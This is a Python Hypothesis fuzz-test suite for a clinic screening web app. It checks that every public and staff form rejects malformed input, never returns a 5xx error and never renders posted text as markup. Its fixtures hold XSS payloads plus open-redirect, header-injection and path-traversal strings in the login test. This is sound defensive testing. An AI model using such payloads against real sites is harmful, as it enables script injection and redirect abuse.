"""Hostile input to every form (hypothesis): malformed, oversized, wrongly typed, repeated and missing fields,
odd Unicode, invalid UTF-8 and HTML/script payloads, posted to every public and staff form, and odd query strings
on every page.

For every response: never a 5xx, and nothing posted becomes markup (``fuzz_strategies.assert_inert``). For what
is stored: a draft only ever holds answers that fit their question (checked against ``screening.questions``
itself), a rejected post changes nothing, and a submission, sign-off, addendum, arrival or deactivation happens
only when an independent reading of the post says it should. ``test_every_post_route_is_fuzzed`` fails when a
POST route is added without a fuzz test here. CSRF is on: forms carry a real token, and every POST route
refuses a missing or wrong one with 400.

One app per test function; each example resets what the previous one changed. Rate limits are raised in the
``app`` fixture so that they do not stop the posts before the code under test.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import secrets
import unicodedata
from urllib.parse import quote, urlencode

import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from hypothesis.control import currently_in_test_context
from pypdf import PdfReader
from sqlalchemy import delete, func, select, update
from werkzeug.datastructures import MultiDict

from screening import current_rules, services
from screening import questions as qd
from screening.appointments import services as appointments
from screening.appointments.api import create_token
from screening.appointments.booking import AREAS, TREATMENTS, check_booking
from screening.appointments.models import ApiToken, Appointment, InvitationLink
from screening.questionnaire.forms import same_name
from screening.extensions import db
from screening.models import (
    AccountLink,
    Addendum,
    Arrival,
    AuditEvent,
    Draft,
    FlagAcknowledgement,
    KioskSession,
    Outbox,
    Review,
    StaffSession,
    StaffUser,
    Submission,
    utcnow,
)
from screening.clients.models import TreatmentSession
from screening.staff import review_services as rs
from screening.staff.accounts import create_user, open_session
from tests.answers import clear_answers
from tests.conftest import make_app
from tests.fuzz_strategies import (
    INVALID_UTF8,
    TOKEN,
    answer_problems,
    as_posted,
    assert_inert,
    form_body,
    hostile_text,
    hostile_value,
    input_values,
    junk_key,
    post_form,
)
from tests.staff import PASSWORD
from tests.web import csrf_token, page_data

TODAY = dt.date.today()
FUTURE = (TODAY + dt.timedelta(days=30)).isoformat()
RECENT = (TODAY - dt.timedelta(days=20)).isoformat()

# Free-text answers holding payloads (each valid for its question: a name, an email, a medicine).
NAME = f'Ann <script>x{TOKEN}1</script> "><img src=x onerror=x{TOKEN}2> Example'
EMAIL = f"<script>x{TOKEN}3</script>@example.org"
MEDICINE = f"</textarea><script>x{TOKEN}4</script> & 'quoted' <b>bold</b>"
BASE = clear_answers(appointment_date=FUTURE, full_name=NAME, email=EMAIL, immunosuppressive_meds="yes",
                     immunosuppressive_meds_details=MEDICINE, injectables_12m="yes",
                     injectables=[{"type": "ha_filler", "date": RECENT, "location": ["cheeks"]}])
# Isotretinoin stopped 20 days ago (defer) and cold sores (review): flags to acknowledge, one overridable.
FLAGGED = dict(BASE, isotretinoin_last_12m="yes", isotretinoin_current="no", isotretinoin_last_dose_date=RECENT,
               cold_sore_history="yes", cold_sore_frequency="yearly")

FUZZ = settings(deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
                                                      HealthCheck.data_too_large, HealthCheck.large_base_example])


def fuzz(examples: int) -> settings:
    """The fuzz settings with ``examples`` examples (a budget chosen per form, for about a minute in all)."""
    return settings(FUZZ, max_examples=examples)


LIMITS = {"STAFF_LOGIN_LIMIT_ADDRESS": "100000 per hour", "STAFF_LOGIN_LIMIT_ACCOUNT": "100000 per hour",
          "STAFF_LOGIN_LIMIT_ACCOUNT_ALL": "100000 per hour",
          "START_LIMIT": "100000 per hour", "SUBMIT_LIMIT": "100000 per hour", "API_LIMIT": "100000 per hour",
          "PASSWORD_RESET_LIMIT": "100000 per hour", "PASSWORD_RESET_ANSWER_SECONDS": 0}

# Every POST endpoint and the test that fuzzes it. A new POST route must be added here, with its fuzzing.
FUZZED = {
    "questionnaire.begin": "test_fuzz_start",
    "questionnaire.page": "test_fuzz_questionnaire_pages",
    "questionnaire.declaration": "test_fuzz_declaration",
    "questionnaire.under_18": "test_fuzz_under_18",
    "questionnaire.kiosk.exit": "test_fuzz_kiosk",
    "questionnaire.kiosk.reset": "test_fuzz_kiosk",
    "questionnaire.kiosk.alive": "test_fuzz_kiosk",
    "staff.login": "test_fuzz_staff_login",
    "staff.second_factor": "test_fuzz_two_factor_sign_in",
    "staff.passkey_options": "test_fuzz_two_factor_sign_in",
    "staff.passkey_sign_in": "test_fuzz_two_factor_sign_in",
    "staff.enrol": "test_fuzz_two_factor_sign_in",
    "staff.enrol_passkey_options": "test_fuzz_two_factor_sign_in",
    "staff.enrol_passkey": "test_fuzz_two_factor_sign_in",
    "staff.security_totp": "test_fuzz_security_page",
    "staff.security_totp_remove": "test_fuzz_security_page",
    "staff.passkey_register_options": "test_fuzz_security_page",
    "staff.passkey_register": "test_fuzz_security_page",
    "staff.passkey_rename": "test_fuzz_security_page",
    "staff.passkey_remove": "test_fuzz_security_page",
    "staff.recovery_codes": "test_fuzz_security_page",
    "staff.reset_two_factor": "test_fuzz_reset_two_factor",
    "staff.logout": "test_fuzz_staff_session",
    "staff.extend": "test_fuzz_staff_session",
    "staff.submissions": "test_fuzz_staff_list_and_search",
    "staff.sign_off": "test_fuzz_sign_off",
    "staff.addendum": "test_fuzz_addendum",
    "staff.next_session": "test_fuzz_next_session",
    "staff.arrived": "test_fuzz_desk",
    "staff.kiosk_start": "test_fuzz_desk",
    "staff.deactivate": "test_fuzz_admin_users",
    "staff.invite_user": "test_fuzz_invite_user",
    "staff.change_roles": "test_fuzz_account_actions",
    "staff.resend_invite": "test_fuzz_account_actions",
    "staff.reactivate": "test_fuzz_account_actions",
    "staff.forgotten_password": "test_fuzz_forgotten_password",
    "staff.choose_password": "test_fuzz_choose_password",
    "staff.new_appointment": "test_fuzz_new_appointment",
    "staff.resend": "test_fuzz_appointment_actions",
    "staff.copy_link": "test_fuzz_appointment_actions",
    "staff.unlock": "test_fuzz_appointment_actions",
    "staff.cancel": "test_fuzz_appointment_actions",
    "staff.attach": "test_fuzz_appointment_actions",
    "staff.import_csv": "test_fuzz_import_csv",
    "invitation.check_dob": "test_fuzz_check_dob",
    "invitation.booking": "test_fuzz_booking_check",
    "api.create": "test_fuzz_api_create",
    "staff.create_api_token": "test_fuzz_api_tokens",
    "staff.revoke_api_token": "test_fuzz_api_tokens",
    "staff.merge": "test_fuzz_client_record",
    "staff.attach_to_client": "test_fuzz_client_record",
    "staff.not_arrived": "test_fuzz_desk_day_of",
    "staff.confirm_here": "test_fuzz_desk_day_of",
    "staff.redo_here": "test_fuzz_desk_day_of",
    "dayof.confirm": "test_fuzz_day_of_confirmation",
    "dayof.changes": "test_fuzz_day_of_confirmation",
}


@pytest.fixture
def app(database_url):
    """The app of the conftest, with the rate limits out of the way (the autouse fixture resets them too)."""
    app = make_app(database_url, **LIMITS)
    yield app
    with app.app_context():
        db.session.remove()
        db.drop_all()
        db.engine.dispose()


# -- helpers ---------------------------------------------------------------------------------------


def pairs_of(data: dict) -> list[tuple[str, str]]:
    """Return a form dict as (key, value) pairs, a list value as one pair per item (checkboxes)."""
    out = []
    for key, value in data.items():
        for item in value if isinstance(value, list) else [value]:
            out.append((key, item))
    return out


def first(pairs, key: str) -> str | None:
    """Return the first value posted under ``key`` as the server reads it (WTForms and Flask take the first)."""
    for k, v in pairs:
        if as_posted(k) == key:
            return as_posted(v)
    return None


def token(client, url: str) -> str:
    response = client.get(url)
    assert response.status_code == 200, (url, response.status_code)
    return csrf_token(response.text)


def count(app, model, *where) -> int:
    with app.app_context():
        return db.session.scalar(select(func.count()).select_from(model).where(*where))


def draft_token(client) -> str | None:
    with client.session_transaction() as session:
        return session.get("draft")


def load_draft(app, client) -> Draft | None:
    """Return the client's draft (detached; read its attributes only)."""
    with app.app_context():
        found = db.session.scalar(select(Draft).where(Draft.token_hash == services._hash(draft_token(client) or "")))
        if found is not None:
            db.session.expunge(found)
        return found


def set_draft(app, client, answers: dict) -> None:
    """Give the client's draft exactly ``answers``, unsigned."""
    with app.app_context():
        draft = services.find_draft(db.session, draft_token(client))
        draft.answers = json.loads(json.dumps(answers))
        draft.signature_name = None
        draft.signed_at = None
        db.session.commit()


def new_draft(app, client, answers: dict | None = None) -> None:
    """Start a draft through the start page and give it ``answers``."""
    response = client.post("/start", data={"csrf_token": token(client, "/"), "action": "restart"})
    assert response.status_code == 302, response.status_code
    if answers is not None:
        set_draft(app, client, answers)


def make_submission(app, answers: dict) -> str:
    """Store a signed submission of ``answers`` (as the declaration would); return its reference."""
    with app.app_context():
        draft, _token = services.start_draft(db.session, dt.timedelta(hours=1))
        draft.answers = json.loads(json.dumps(answers))
        services.sign(db.session, draft, answers["full_name"])
        return services.submit(db.session, draft, current_rules()).reference


def add_staff(app, email: str, roles) -> int:
    with app.app_context():
        return create_user(db.session, email, email.split("@")[0].title(), list(roles), PASSWORD).id


def staff_client(app, user_id: int):
    """Return a client signed in as ``user_id`` (a server-side session opened directly: sign-in is fuzzed apart)."""
    with app.app_context():
        staff_token = open_session(db.session, db.session.get(StaffUser, user_id))
    client = app.test_client()
    with client.session_transaction() as session:
        session["staff"] = staff_token
    return client


def check(response, what: str = "") -> None:
    if currently_in_test_context():
        event(f"{what}: {response.status_code}")  # shown by pytest --hypothesis-show-statistics
    assert_inert(response, what)


def check_round_trip(response, pairs, what: str = "") -> None:
    """Every text box re-shown after a post holds exactly what was typed into it (first value of its name)."""
    if response.mimetype != "text/html":
        return
    for name, shown in input_values(response.get_data(as_text=True)).items():
        posted = first(pairs, name)
        if posted is not None and name not in ("csrf_token", "website"):
            assert shown == [posted], (what, name, posted, shown)


def mutate(draw, pairs: list, names: list[str], codes: list[str], actions: list[str]) -> list:
    """Apply 0-4 random mutations to a form post: replace, drop, repeat, add a field, a junk key or an action."""
    pairs = list(pairs)
    value = st.one_of(hostile_value(), st.sampled_from(codes or [""]), st.integers(-5, 3000).map(str))
    actions = actions or [""]
    for _ in range(draw(st.sampled_from([0, 0, 1, 1, 2, 3, 4]))):  # often a valid post: its success path
        op = draw(st.sampled_from(["replace", "drop", "repeat", "add", "add", "junk", "action"]))
        if op in ("replace", "drop", "repeat") and not pairs:
            continue
        if op == "replace":
            i = draw(st.integers(0, len(pairs) - 1))
            pairs[i] = (pairs[i][0], draw(value))
        elif op == "drop":
            pairs.pop(draw(st.integers(0, len(pairs) - 1)))
        elif op == "repeat":
            key = pairs[draw(st.integers(0, len(pairs) - 1))][0]
            pairs.insert(draw(st.integers(0, len(pairs))), (key, draw(value)))
        elif op == "add":
            pairs.insert(draw(st.integers(0, len(pairs))), (draw(st.sampled_from(names)), draw(value)))
        elif op == "junk":
            pairs.append((draw(junk_key()), draw(value)))
        else:
            pairs.append(("action", draw(st.one_of(st.sampled_from(actions), hostile_value()))))
    while len(form_body(pairs)) > MAX_BODY:  # an oversized post is a 413, tested on its own
        i = max(range(len(pairs)), key=lambda n: len(pairs[n][1]))
        pairs[i] = (pairs[i][0], pairs[i][1][:1000])
    return pairs


MAX_BODY = 250_000  # under the app's MAX_CONTENT_LENGTH of 256 KiB


ALL_CODES = sorted({c for q in qd.QUESTIONS for f in (q, *q.fields) for c in f.choice_codes()})


def field_names(page: qd.Page) -> list[str]:
    """Every key a browser could send for ``page``, and some just past its limits (group row 10 and 11)."""
    names = []

    def add(q: qd.Question, name: str) -> None:
        if q.type == qd.DATE:
            names.extend(f"{name}-{part}" for part in ("day", "month", "year", "unknown"))
        elif q.type == qd.GROUP:
            for i in (0, 1, 2, 9, 10, 11):
                for f in q.fields:
                    add(f, f"{name}-{i}-{f.id}")
        else:
            names.append(name)

    for q in qd.page_questions(page):
        add(q, q.id)
    return names


def query_pairs(names: list[str]) -> st.SearchStrategy[list]:
    return st.lists(st.tuples(st.one_of(st.sampled_from(names), junk_key()), hostile_value()), max_size=4)


# -- coverage ----------------------------------------------------------------------------------------


def test_every_post_route_is_fuzzed(app):
    posts = {rule.endpoint for rule in app.url_map.iter_rules() if "POST" in rule.methods}
    assert posts == set(FUZZED), ("POST routes without a fuzz test here (add them to FUZZED and fuzz them): "
                                  f"{sorted(posts - set(FUZZED))}; gone: {sorted(set(FUZZED) - posts)}")
    for test in set(FUZZED.values()):
        assert callable(globals().get(test)), test


def test_the_fixed_answers_are_valid_and_hold_payloads():
    """The answer sets the fuzz starts from are valid, so that a problem found is one the post made."""
    assert answer_problems(BASE) == [] and answer_problems(FLAGGED) == []
    assert all(TOKEN in text for text in (NAME, EMAIL, MEDICINE))


# -- the public questionnaire ---------------------------------------------------------------------------


@fuzz(30)
@given(data=st.data())
def test_fuzz_start(app, data):
    client = app.test_client()
    if data.draw(st.booleans()):
        new_draft(app, client, {"full_name": "Ann Example"})
    before, drafts = draft_token(client), count(app, Draft)
    good = token(client, "/")
    pairs = [("csrf_token", good), ("action", data.draw(st.sampled_from(["start", "continue", "restart"])))]
    pairs = mutate(data.draw, pairs, ["csrf_token", "action", "website"], ["start", "continue", "restart", ""],
                   ["restart", "continue"])
    response = post_form(client, "/start", pairs)
    check(response, "/start")
    valid = first(pairs, "csrf_token") == good and not (first(pairs, "website") or "").strip()  # the honeypot
    assert (response.status_code == 302) == valid, (response.status_code, valid)
    if response.status_code == 302:
        assert response.location.startswith("/q/"), response.location
        created = count(app, Draft) - drafts
        restarted = before is None or first(pairs, "action") == "restart"
        assert created == (1 if before is None else 0), created  # a restart replaces the draft it deletes
        assert (draft_token(client) != before) == restarted
    else:
        assert response.status_code == 400, response.status_code
        assert count(app, Draft) == drafts and draft_token(client) == before


@pytest.fixture
def answering(app):
    """A client whose draft holds every answer (BASE), so that every page can be posted."""
    client = app.test_client()
    new_draft(app, client, BASE)
    return client


@fuzz(100)
@given(data=st.data())
def test_fuzz_questionnaire_pages(app, answering, data):
    client = answering
    set_draft(app, client, BASE)
    page = data.draw(st.sampled_from(qd.PAGES), label="page")
    groups = [q.id for q in qd.page_questions(page) if q.type == qd.GROUP]
    actions = [f"add-{g}" for g in groups] + ["add-", "add-injectables", "add-full_name", "save"]
    query = data.draw(st.sampled_from(["", "?change=1", "?change=0", "?change=%00", "?change=1&change=1"]))
    pairs = [("csrf_token", token(client, f"/q/{page.id}"))] + pairs_of(page_data(page, BASE))
    pairs = mutate(data.draw, pairs, field_names(page), ALL_CODES, actions)
    response = post_form(client, f"/q/{page.id}{query}", pairs)
    check(response, page.id)
    stored = dict(load_draft(app, client).answers)
    assert answer_problems(stored) == [], (page.id, answer_problems(stored))
    own = {q.id for q in qd.page_questions(page)}
    if response.status_code == 302:
        assert {k: v for k, v in stored.items() if k not in own} == {k: v for k, v in BASE.items() if k not in own}
        check(client.get("/check"), "check")  # what was stored, shown again
    else:
        assert response.status_code in (200, 400), response.status_code
        assert stored == BASE, "a refused post changed the draft"
        check_round_trip(response, pairs, page.id)


@pytest.fixture
def signing(app):
    client = app.test_client()
    new_draft(app, client, BASE)
    return client


def clean_name(text: str) -> str:
    """A typed name as the declaration compares it: control characters dropped, spaces collapsed."""
    return " ".join("".join(c for c in text if c.isspace() or unicodedata.category(c) != "Cc").split())


@fuzz(40)
@given(data=st.data())
def test_fuzz_declaration(app, signing, data):
    client = signing
    if load_draft(app, client) is None:  # the previous example sent it
        new_draft(app, client, BASE)
    submissions = count(app, Submission)
    signed = st.sampled_from([NAME, NAME.upper(), f"  {NAME.lower()}  ", NAME + "\x00", NAME.replace(" ", "\t\n"),
                              NAME[:-1], ""])
    signature = data.draw(st.one_of(signed, signed, hostile_text()))
    good = token(client, "/declaration")
    pairs = [("csrf_token", good), ("confirm", "y"), ("signature", signature)]
    pairs = mutate(data.draw, pairs, ["confirm", "signature", "website", "csrf_token"],
                   ["y", "false", "", "on", "0"], ["submit"])
    response = post_form(client, "/declaration", pairs)
    check(response, "declaration")
    typed = first(pairs, "signature") or ""
    valid = (first(pairs, "csrf_token") == good and first(pairs, "confirm") not in (None, "", "false")
             and len(typed) <= 120 and not (first(pairs, "website") or "").strip()
             and same_name(clean_name(typed), NAME))
    created = count(app, Submission) - submissions
    assert created == (1 if valid else 0), (response.status_code, valid, created)
    if valid:
        assert response.status_code == 302 and response.location.endswith("/done")
        check(client.get("/done"), "done")
        with app.app_context():
            row = db.session.scalars(select(Submission).order_by(Submission.id.desc())).first()
            assert row.signature_name == clean_name(typed)
            assert answer_problems(row.answers) == [] and row.answers["full_name"] == NAME
    else:
        assert response.status_code == 400, response.status_code
        draft = load_draft(app, client)
        assert draft is not None and draft.signature_name is None and draft.answers == BASE


@fuzz(20)
@given(data=st.data())
def test_fuzz_under_18(app, data):
    """Stopping after the under-18 notice deletes the draft, only with the right token and only for a client
    who will be under 18 on the appointment day; anything else changes nothing."""
    client = app.test_client()
    young = data.draw(st.booleans(), label="young")
    appointment = dt.date.fromisoformat(BASE["appointment_date"])
    dob = appointment.replace(year=appointment.year - 17) if young else dt.date.fromisoformat(BASE["dob"])
    new_draft(app, client, dict(BASE, dob=dob.isoformat()))
    drafts = count(app, Draft)
    good = token(client, "/q/about-you")
    query = data.draw(st.sampled_from(["", "?next=check", "?next=pregnancy", "?next=%00", "?next=/evil"]))
    pairs = mutate(data.draw, [("csrf_token", good)], ["csrf_token", "action", "website"], ["stop", ""], ["stop"])
    response = post_form(client, f"/q/under-18{query}", pairs)
    check(response, "under-18")
    if first(pairs, "csrf_token") != good:
        assert response.status_code == 400 and count(app, Draft) == drafts
    elif young:
        assert response.status_code == 200 and "Your answers have been deleted" in response.text
        assert count(app, Draft) == drafts - 1 and draft_token(client) is None
    else:
        assert response.status_code == 302 and response.location.startswith("/q/") or \
            response.location.startswith("/check"), response.location
        assert count(app, Draft) == drafts


# -- kiosk mode ------------------------------------------------------------------------------------------


def enter_kiosk(app, user_id: int):
    client = staff_client(app, user_id)
    response = client.post("/staff/kiosk/start", data={"csrf_token": token(client, "/staff/desk")})
    assert response.status_code == 302 and response.location == "/"
    return client


@pytest.fixture
def kiosk(app):
    user_id = add_staff(app, "desk@clinic.test", ["desk"])
    return {"user_id": user_id, "client": enter_kiosk(app, user_id)}


def in_kiosk(client) -> bool:
    with client.session_transaction() as session:
        return "kiosk" in session


@fuzz(25)
@given(data=st.data())
def test_fuzz_kiosk(app, kiosk, data):
    client = kiosk["client"]
    if not in_kiosk(client):  # the previous example ended it with the right credentials
        kiosk["client"] = client = enter_kiosk(app, kiosk["user_id"])
    action = data.draw(st.sampled_from(["reset", "alive", "exit", "start", "page"]), label="action")
    if action in ("reset", "alive", "page") and load_draft(app, client) is None:
        new_draft(app, client)
    good = token(client, "/kiosk/exit" if action == "exit" else "/")
    pairs = [("csrf_token", good)]
    if action == "exit":
        email = data.draw(st.one_of(st.sampled_from(["desk@clinic.test", " DESK@clinic.test "]), hostile_text()))
        password = data.draw(st.one_of(st.just(PASSWORD), st.just(PASSWORD), hostile_text()))
        pairs += [("email", email), ("password", password)]
        pairs = mutate(data.draw, pairs, ["email", "password", "csrf_token"], [], [])
        kiosks = count(app, KioskSession, KioskSession.ended_at.is_(None))
        response = post_form(client, "/kiosk/exit", pairs)
        check(response, "kiosk exit")
        email = first(pairs, "email") or ""
        valid = (first(pairs, "csrf_token") == good and first(pairs, "password") == PASSWORD and len(email) <= 254
                 and email.strip().lower() == "desk@clinic.test")
        assert (response.status_code == 302) == valid, (response.status_code, valid)
        assert count(app, KioskSession, KioskSession.ended_at.is_(None)) == kiosks - valid
        assert in_kiosk(client) != valid
        if response.status_code != 302:
            assert response.status_code in (400, 401), response.status_code
            check_round_trip(response, pairs, "kiosk exit")
        return
    if action == "page":
        page = qd.PAGES[0]
        pairs += pairs_of(page_data(page, BASE))
        pairs = mutate(data.draw, pairs, field_names(page), ALL_CODES, ["add-x"])
        response = post_form(client, f"/q/{page.id}", pairs)
        check(response, "kiosk page")
        if response.status_code != 302:
            check_round_trip(response, pairs, "kiosk page")
        draft = load_draft(app, client)
        assert draft is not None and answer_problems(draft.answers) == []
        assert in_kiosk(client)
        return
    url = {"reset": "/kiosk/reset", "alive": "/kiosk/alive", "start": "/start"}[action]
    pairs = mutate(data.draw, pairs, ["csrf_token", "action", "website"], ["restart", "start"], ["restart"])
    had_draft = load_draft(app, client) is not None
    response = post_form(client, url, pairs)
    check(response, url)
    assert in_kiosk(client)
    ok = first(pairs, "csrf_token") == good
    if action == "reset":
        assert response.status_code == (302 if ok else 400)
        assert (load_draft(app, client) is None) == (ok or not had_draft)
    elif action == "alive":
        assert response.status_code == ((204 if had_draft else 410) if ok else 400)
    else:
        assert response.status_code in (302, 400)


# -- staff ---------------------------------------------------------------------------------------------


@fuzz(12)
@given(data=st.data())
def test_fuzz_staff_login(app, data):
    if not count(app, StaffUser):
        add_staff(app, "prac@clinic.test", ["practitioner"])
    client = app.test_client()
    good = token(client, "/staff/login")
    pairs = [("csrf_token", good),
             ("email", data.draw(st.one_of(st.just("prac@clinic.test"), st.just(" Prac@Clinic.test"),
                                           hostile_text()))),
             ("password", data.draw(st.one_of(st.just(PASSWORD), hostile_text())))]
    pairs = mutate(data.draw, pairs, ["email", "password", "csrf_token"], [], [])
    nxt = data.draw(st.one_of(st.sampled_from(["/staff/desk", "//evil.example/staff/", "/staff/\r\nX-A: b",
                                               "https://evil.example/", "/staff/../../etc", "javascript:x"]),
                              hostile_text()))
    response = post_form(client, "/staff/login?" + urlencode({"next": nxt}), pairs)
    check(response, "login")
    email, password = first(pairs, "email") or "", first(pairs, "password") or ""
    valid = (first(pairs, "csrf_token") == good and password == PASSWORD and len(email) <= 254
             and email.strip().lower() == "prac@clinic.test")
    assert (response.status_code == 302) == valid, (response.status_code, valid)
    if valid:
        location = response.location
        assert location.startswith("/staff/") and not location.startswith("//"), location
        assert "\r" not in location and "\n" not in location
    else:
        assert response.status_code in (400, 401), response.status_code
        with client.session_transaction() as session:
            assert "staff" not in session


@pytest.fixture
def staff(app):
    """One account with every role (so that one client reaches every staff form), and submissions to act on."""
    user_id = add_staff(app, "boss@clinic.test", ["admin", "desk", "practitioner"])
    today = make_submission(app, dict(FLAGGED, appointment_date=TODAY.isoformat()))
    later = make_submission(app, FLAGGED)
    signed = make_submission(app, BASE)
    with app.app_context():
        row = db.session.scalar(select(Submission).where(Submission.reference == signed))
        rs.sign_off(db.session, row, db.session.get(StaffUser, user_id),
                    rs.SignOffInput(acknowledged=(True,) * len(row.result["flags"]),
                                    flag_notes=("",) * len(row.result["flags"]), decision="decline"),
                    today=TODAY)
    client = staff_client(app, user_id)
    return {"user_id": user_id, "client": client, "today": today, "later": later, "signed": signed,
            "token": token(client, "/staff/submissions")}


@fuzz(50)
@given(data=st.data())
def test_fuzz_staff_list_and_search(app, staff, data):
    client = staff["client"]
    where = data.draw(st.sampled_from(["list", "search", "audit"]), label="where")
    names = {"list": ["date", "outcome", "status", "page"], "search": ["date", "outcome", "status", "page"],
             "audit": ["action", "actor", "date_from", "date_to", "page"]}[where]
    args = data.draw(query_pairs(names + ["download", "version"]))
    url = ("/staff/admin/audit" if where == "audit" else "/staff/submissions") + "?" + urlencode(args)
    if where != "search":
        check(client.get(url), where)
        return
    pairs = [("csrf_token", staff["token"]),
             ("name", data.draw(st.sampled_from(["ann", "Example", NAME, "<script>", ""]))),
             ("birth_date-day", "27"), ("birth_date-month", "3"), ("birth_date-year", "1990"),
             ("reference", data.draw(st.sampled_from([staff["today"], staff["today"].lower().replace("-", " "),
                                                      "", "K7QM-4TXR"])))]
    pairs = mutate(data.draw, pairs, ["name", "reference", "page", "birth_date-day", "birth_date-month",
                                      "birth_date-year", "csrf_token"], ["1", "2", "0"], [])
    response = post_form(client, url, pairs)
    check(response, "search")
    assert response.status_code in (200, 400), response.status_code
    check_round_trip(response, pairs, "search")


def sign_off_pairs(draw, flags: int, csrf: str) -> list:
    pairs = [("csrf_token", csrf)]
    for i in range(flags):
        pairs += [(f"ack_{i}", "yes"), (f"note_{i}", draw(st.one_of(st.just("Discussed"), hostile_text())))]
    decision = draw(st.sampled_from(list(rs.DECISIONS) + ["", "maybe"]))
    pairs += [("decision", decision), ("note", draw(hostile_text()))]
    pairs += [("treated", draw(st.sampled_from([*rs.TREATED, "", "maybe"]))),
              ("treated_variant", draw(st.sampled_from([*rs.TREATED_VARIANTS, "unknown", ""]))),
              ("treated_areas", draw(st.sampled_from(["full_face", "neck", "elbow", ""])))]
    if decision == "defer":
        day = TODAY + dt.timedelta(days=draw(st.integers(-3, 1200)))
        pairs += [("defer_until-day", str(day.day)), ("defer_until-month", str(day.month)),
                  ("defer_until-year", str(day.year))]
    names = [n for i in range(flags) for n in (f"ack_{i}", f"note_{i}")] + [
        "decision", "note", "defer_until-day", "defer_until-month", "defer_until-year", "ack_9", "note_9",
        "treated", "treated_variant", "treated_areas"]
    return mutate(draw, pairs, names, ["yes", "no", *rs.DECISIONS, *rs.TREATED, "rf", "cheeks"], [])


@fuzz(25)
@given(data=st.data())
def test_fuzz_sign_off(app, staff, data):
    client, reference = staff["client"], data.draw(st.sampled_from([staff["today"], staff["later"]]))
    with app.app_context():
        row = db.session.scalar(select(Submission).where(Submission.reference == reference))
        flags, submission_id = list(row.result["flags"]), row.id
    pairs = sign_off_pairs(data.draw, len(flags), staff["token"])
    response = post_form(client, f"/staff/submissions/{reference}/sign-off", pairs)
    check(response, "sign-off")
    with app.app_context():
        review = db.session.scalar(select(Review).where(Review.submission_id == submission_id))
        if review is None:
            assert response.status_code == 400, response.status_code
            return
        assert response.status_code == 302, response.status_code
        # Stored only if it keeps every rule of a sign-off, read here from the post itself.
        acks = db.session.scalars(select(FlagAcknowledgement).where(FlagAcknowledgement.review_id == review.id)
                                  .order_by(FlagAcknowledgement.flag_index)).all()
        assert first(pairs, "csrf_token") == staff["token"]
        assert review.decision in rs.DECISIONS and review.decision == first(pairs, "decision")
        assert len(acks) == len(flags)
        for i, (flag, ack) in enumerate(zip(flags, acks)):
            posted = [as_posted(v) for k, v in pairs if as_posted(k) == f"ack_{i}"]
            assert "yes" in posted, i
            assert len(ack.note) <= rs.NOTE_MAX and ack.note == ack.note.strip()
            if review.decision in rs.PROCEEDING and flag["severity"] in rs.OVERRIDABLE:
                assert ack.note and ack.is_override
        if review.decision == "defer":
            assert TODAY - dt.timedelta(days=1) <= review.defer_until <= TODAY + dt.timedelta(days=3 * 366)
        else:
            assert review.defer_until is None
        assert len(review.note) <= rs.NOTE_MAX
        # What was done today: treated only when proceeding and the post said so (or, from a form without the
        # question, posted none of it: the booking's treatment), with a known treatment and areas.
        [done] = db.session.scalars(select(TreatmentSession).where(TreatmentSession.review_id == review.id)).all()
        asked = {"treated", "treated_variant", "treated_areas"} & {as_posted(k) for k, _v in pairs}
        said = first(pairs, "treated") == "treated" or not asked
        assert done.treated == (review.decision in rs.PROCEEDING and said)
        assert (done.variant in rs.TREATED_VARIANTS and done.area_list and set(done.area_list) <= set(AREAS)) \
            if done.treated else (done.variant, done.area_list) == ("", [])
    check(client.get(f"/staff/submissions/{reference}"), "record after sign-off")
    with app.app_context():  # undo, for the next example
        db.session.execute(delete(TreatmentSession).where(TreatmentSession.review_id == review.id))
        db.session.execute(delete(FlagAcknowledgement).where(FlagAcknowledgement.review_id == review.id))
        db.session.execute(delete(Review).where(Review.id == review.id))
        db.session.commit()


def next_session_reference(app, staff) -> str:
    """A signed-off screening with a bookable identity (the fixture's carry markup in the email), made once."""
    if "next" not in staff:
        reference = make_submission(app, clear_answers(appointment_date=TODAY.isoformat(), full_name="Nora Next"))
        with app.app_context():
            row = db.session.scalar(select(Submission).where(Submission.reference == reference))
            flags = len(row.result["flags"])
            rs.sign_off(db.session, row, db.session.get(StaffUser, staff["user_id"]),
                        rs.SignOffInput(acknowledged=(True,) * flags, flag_notes=("",) * flags, decision="decline"),
                        today=TODAY)
        staff["next"] = reference
    return staff["next"]


NEXT_NAMES = ["next_date-day", "next_date-month", "next_date-year", "next_time", "next_variant", "next_areas"]


@fuzz(25)
@given(data=st.data())
def test_fuzz_next_session(app, staff, data):
    """A post books one appointment (302) exactly when the booking check, given what was typed, accepts it; anything
    else is a 400 (409 before a sign-off) that shows what was typed and books nothing."""
    client = staff["client"]
    signed = data.draw(st.sampled_from([True, True, True, False]))
    reference = next_session_reference(app, staff) if signed else staff["later"]
    day = TODAY + dt.timedelta(days=data.draw(st.integers(-3, 800)))
    pairs = [("csrf_token", staff["token"]), ("next_date-day", str(day.day)), ("next_date-month", str(day.month)),
             ("next_date-year", str(day.year)),
             ("next_time", data.draw(st.sampled_from(["14:30", "9:05", "16:45", "24:00", ""]))),
             ("next_variant", data.draw(st.sampled_from([*TREATMENTS, "unknown", ""]))),
             ("next_areas", data.draw(st.sampled_from([*AREAS, "elbow", ""])))]
    pairs = mutate(data.draw, pairs, NEXT_NAMES, [*TREATMENTS, *AREAS, "2027", "12", "10:15"], [])  # hostile too
    before = count(app, Appointment)
    response = post_form(client, f"/staff/submissions/{reference}/next-session", pairs)
    check(response, "next session")
    created = count(app, Appointment) - before
    with app.test_request_context():
        when, problem = rs._next_date(tuple(first(pairs, f"next_date-{p}") or "" for p in ("day", "month", "year")))
    raw = {"name": "Nora Next", "date_of_birth": "1990-03-27", "email": "ann@example.org", "phone": "07700 900123",
           "date": when, "time": (first(pairs, "next_time") or "").strip(), "treatment": first(pairs, "next_variant"),
           "areas": [as_posted(v) for k, v in pairs if as_posted(k) == "next_areas"],
           "practitioner_email": "boss@clinic.test"}
    booking, faults = check_booking(raw, today=TODAY, practitioners={"boss@clinic.test": staff["user_id"]},
                                    unknown=False)
    csrf_ok = first(pairs, "csrf_token") == staff["token"]
    valid = csrf_ok and signed and not problem and not faults
    assert (response.status_code == 302) == valid, (response.status_code, problem, faults, raw)
    assert created == valid
    if valid:
        with app.app_context():
            a = db.session.scalars(select(Appointment).order_by(Appointment.id.desc())).first()
            assert (a.appointment_date, a.appointment_time, a.treatment_variant, tuple(a.areas)) == (
                booking.date, booking.time, booking.treatment, booking.areas)
